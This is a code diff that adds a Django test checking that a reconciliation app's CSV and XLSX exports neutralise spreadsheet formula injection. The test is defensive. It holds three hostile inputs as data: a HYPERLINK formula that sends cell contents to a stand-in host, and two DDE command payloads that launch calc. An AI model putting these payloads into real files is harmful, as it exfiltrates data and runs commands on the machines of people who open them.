@@ -117,6 +117,31 @@ class ExportTests:
         row = Discrepancy.objects.get(type="amount_mismatch")
         assert [Decimal(str(v)) for v in mismatch[8:11]] == [row.ledger_amount, row.statement_amount, Decimal("-1.00")]
 
+    def test_a_channels_trade_number_or_a_hospitals_name_never_becomes_a_formula(self, run, hospital, admin_client):
+        # The attack of issue 14 item 2: text from partners that a spreadsheet would run.
+        attacks = ['=HYPERLINK("http://e.x/?"&A1,"a")', "+cmd|calc!A0"]
+        first, second = Discrepancy.objects.order_by("pk")[:2]
+        Discrepancy.objects.filter(pk=first.pk).update(pay_trade_no=attacks[0])
+        Discrepancy.objects.filter(pk=second.pk).update(pay_trade_no=attacks[1])
+        type(hospital).objects.filter(pk=hospital.pk).update(name="@SUM(1+9)*cmd|' /C calc'!A0")
+        Discrepancy.objects.filter(pk=first.pk).update(hospital=hospital)
+        text = admin_client.get(reverse("admin:reconciliation_run_export_csv", args=[run.pk])).content.decode(
+            "utf-8-sig"
+        )
+        import csv
+
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert "'" + attacks[0] in cells and "'" + attacks[1] in cells and "'@SUM(1+9)*cmd|' /C calc'!A0" in cells
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        assert "-1.00" in cells  # a negative amount is a number, not neutralised
+        book = load_workbook(
+            io.BytesIO(admin_client.get(reverse("admin:reconciliation_run_export_xlsx", args=[run.pk])).content)
+        )
+        cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
+        assert not [c for c in cells if c.data_type == "f"]
+        trade = [c for c in cells if c.value in attacks]
+        assert len(trade) == 2 and all(c.data_type == "s" and c.quotePrefix for c in trade)
+
 
 @pytest.mark.django_db
 class StatementAdminTests:
